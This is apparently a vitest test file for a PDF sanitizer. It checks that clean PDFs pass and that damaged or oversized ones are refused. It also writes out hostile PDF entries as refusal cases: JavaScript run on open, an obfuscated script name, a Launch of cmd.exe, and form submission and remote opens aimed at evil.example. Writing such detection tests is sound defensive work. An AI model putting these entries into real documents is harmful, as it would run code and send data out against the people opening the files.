import { readdirSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { cleaned, sample } from '../../sample-files.for-tests.ts';
import { checkedPdf } from './pdf.ts';

const DOCUMENTS = new URL('../../../../fixtures/files/documents/', import.meta.url);
const invoice = sample('invoice.pdf');
const PAGE = '/Type /Page /Parent 2 0 R';

/** A PDF of these objects, without the table of their places, which no reader needs. */
function pdf(...objects: string[]): Buffer {
  const numbered = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`);
  return Buffer.from(
    `%PDF-1.7\n${numbered.join('')}trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`,
    'latin1',
  );
}

function stream(dictionary: string, data: string | Buffer): string {
  const content = typeof data === 'string' ? data : data.toString('latin1');
  return `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

const packedObjects = (objects: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
  stream(dictionary, deflateSync(Buffer.from(`9 0 ${objects}`, 'latin1')));

/** Together with the four bytes before them. */
const MOST_UNPACKED = 32 * 1024 * 1024 - 3;

const refusal = (file: Buffer) => expect(cleaned(checkedPdf, file)).rejects;

describe('a PDF without active content', () => {
  it.each([
    ['an invoice', invoice],
    ['one that begins at a place in it', pdf(`<< ${PAGE} /OpenAction [3 0 R /FitH null] >>`)],
    ['one with links', pdf(`<< ${PAGE} /Annots [<< /A << /S /URI /URI (https://exemplo.com.br) >> >>] >>`)],
    ['one with packed objects', pdf(packedObjects(`<< ${PAGE} >>`))],
    [
      'one with several',
      pdf(...Array.from({ length: 30 }, () => packedObjects(`<< ${PAGE} >>`.repeat(300)))),
    ],
    [
      'one whose outline has a first entry',
      pdf(`<< /First 3 0 R >>`, stream('/Filter /DCTDecode', '\xff\xd8'), `<< ${PAGE} >>`),
    ],
    ['one with a form to fill in', pdf(`<< ${PAGE} /AcroForm << /Fields [] >> >>`)],
    ['one that may not be printed', pdf(`<< ${PAGE} >>`, '<< /Encrypt 5 0 R >>')],
    [
      'one with an action and no address',
      pdf(`<< ${PAGE} /OpenAction 4 0 R >>`, '<< /S /GoTo /D [3 0 R /Fit] >>'),
    ],
  ])('is kept as it is: %s', async (_case, file) => {
    expect((await cleaned(checkedPdf, file)).equals(file)).toBe(true);
  });

  it.each(readdirSync(DOCUMENTS))('is kept as a program wrote it: %s', async (name) => {
    const file = sample(`documents/${name}`);
    expect((await cleaned(checkedPdf, file)).equals(file)).toBe(true);
  });

  it('is kept with 32 MB of packed objects, and with 1 000 streams of them', async () => {
    const most = packedObjects(' '.repeat(MOST_UNPACKED - 1));
    const many = Array.from({ length: 1_000 }, () => packedObjects(''));
    for (const file of [pdf(`<< ${PAGE} >>`, most), pdf(`<< ${PAGE} >>`, ...many)]) {
      expect((await cleaned(checkedPdf, file, [64 * 1024])).equals(file)).toBe(true);
    }
  });

  it('is kept with 1019 bytes behind its end mark, and refused with 1020', async () => {
    const body = invoice.subarray(0, invoice.lastIndexOf('%%EOF') + 5);
    const withTail = (bytes: number) => Buffer.concat([body, Buffer.alloc(bytes)]);
    expect((await cleaned(checkedPdf, withTail(1019))).length).toBe(body.length + 1019);
    await refusal(withTail(1020)).toMatchObject({ code: 'damaged' });
  });
});

describe('active content in a PDF', () => {
  it.each([
    ['a script when it is opened', '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'],
    ['its name written by numbers', '/OpenAction << /S /J#61va#53cript /JS (x) >>'],
    ['a program', '/A << /S /Launch /F (cmd.exe) >>'],
    ['a file that is brought along', '/Names << /EmbeddedFiles 7 0 R >>'],
    ['another file that is opened', '/A << /S /GoToR /F (//evil.example/x) >>'],
    ['a form that is sent', '/A << /S /SubmitForm /F (https://evil.example) >>'],
    ['a form of its own kind', '/AcroForm << /XFA 7 0 R >>'],
    ['a site when it is opened', '/OpenAction << /S /URI /URI (https://evil.example) >>'],
    ['a site when its page is', '/AA << /O 9 0 R >> /X << /S /URI >>'],
  ])('is refused: %s', async (_case, entry) => {
    await refusal(pdf(`<< ${PAGE} ${entry} >>`)).toMatchObject({ code: 'active' });
    await refusal(pdf(packedObjects(`<< ${PAGE} ${entry} >>`))).toMatchObject({ code: 'active' });
    const many = `<< ${PAGE} >>`.repeat(9_000);
    await refusal(pdf(packedObjects(`${many}<< ${entry} >>${many}`))).toMatchObject({ code: 'active' });
  });

  it('is refused wherever the pieces end in which it comes or is unpacked', async () => {
    const script = '/S /JavaScript ';
    const before = (length: number) => '/X 1 '.repeat(length / 5).padEnd(length);
    const plain = pdf(`<< ${PAGE} >>`, `<< ${before(10_000)}${script}>>`);
    const at = plain.indexOf(script);
    for (let end = at; end <= at + script.length; end += 1) {
      await expect(cleaned(checkedPdf, plain, [end])).rejects.toMatchObject({ code: 'active' });
      // Unpacked data come in pieces of 16 KB.
      const packed = packedObjects(before(16 * 1024 - (end - at)) + script);
      await refusal(pdf(`<< ${PAGE} >>`, packed)).toMatchObject({ code: 'active' });
    }
  });

  it('is refused in packed objects whose dictionary has 1 000 other names first', async () => {
    const names = Array.from({ length: 1_000 }, (_, index) => `/N${index} 0`).join(' ');
    const dictionary = `${names} /N 1 /First 4 /Filter /FlateDecode`;
    await refusal(pdf(`<< ${PAGE} >>`, packedObjects('/S /Launch ', dictionary))).toMatchObject({
      code: 'active',
    });
  });

  it('is refused in packed objects whose type is not said', async () => {
    const file = pdf(`<< ${PAGE} >>`, packedObjects('/S /Launch ', '/N 1 /First 4 /Filter [/FlateDecode]'));
    await refusal(file).toMatchObject({ code: 'active' });
  });
});

describe('a PDF that cannot be looked into', () => {
  const objects = packedObjects(`<< ${PAGE} >>`);
  const data = deflateSync(Buffer.from('9 0 << >>')).subarray(0, -6);
  const cutShort = stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data);
  it.each([
    [
      'packed objects behind a password',
      'locked',
      pdf(stream('/Type /ObjStm /First 4 /Filter /FlateDecode', 'xyz'), '<< /Encrypt 5 0 R >>'),
    ],
    [
      'packed objects that are not packed',
      'damaged',
      pdf(stream('/Type /ObjStm /First 4 /Filter /FlateDecode', 'xyz')),
    ],
    ['packed objects cut short', 'damaged', pdf(objects.slice(0, -40))],
    [
      'packed objects within packed objects',
      'damaged',
      pdf(
        stream(
          '/Type /ObjStm /First 4 /Filter /FlateDecode',
          deflateSync(Buffer.from(`1 0 obj\n${objects}`), { level: 0 }),
        ),
      ),
    ],
    [
      'objects packed in another way',
      'damaged',
      pdf(`<< ${PAGE} >>`, packedObjects('', '/Type /ObjStm /First 4 /Filter [/ASCII85Decode /FlateDecode]')),
    ],
    [
      'objects packed in a way that another object names',
      'damaged',
      pdf(`<< ${PAGE} >>`, packedObjects('', '/Type /ObjStm /First 4 /Filter 8 0 R')),
    ],
    [
      'packed objects whose dictionary is torn apart',
      'damaged',
      pdf(`<< ${PAGE} >>`, packedObjects('/S /Launch', '/Type /ObjStm (\n1 0 obj) /N 1')),
    ],
    [
      'more than 32 MB of packed objects',
      'damaged',
      pdf(`<< ${PAGE} >>`, packedObjects(' '.repeat(MOST_UNPACKED))),
    ],
    [
      'packed objects cut short before others',
      'damaged',
      pdf(`<< ${PAGE} >>`, cutShort, packedObjects('<< >>')),
    ],
    ['packed objects that are named and not found', 'damaged', pdf(`<< ${PAGE} >>`, '<< /X /ObjStm >>')],
    ['a dictionary without its end', 'damaged', pdf(`<< ${PAGE} >>`, '<< /X (')],
    [
      'more than 1 000 streams of packed objects',
      'damaged',
      pdf(`<< ${PAGE} >>`, ...Array.from({ length: 1_001 }, () => packedObjects(''))),
    ],
  ])('is refused: %s (%s)', async (_case, code, file) => {
    await refusal(file).toMatchObject({ code });
  });
});

describe('a damaged PDF', () => {
  it.each([
    ['without its end mark', invoice.subarray(0, 600)],
    ['without a page', pdf('<< /Type /Catalog >>')],
    ['without anything', Buffer.from('%PDF-1.7\n%%EOF')],
  ])('is refused: %s', async (_case, file) => {
    await refusal(file).toMatchObject({ code: 'damaged' });
  });
});
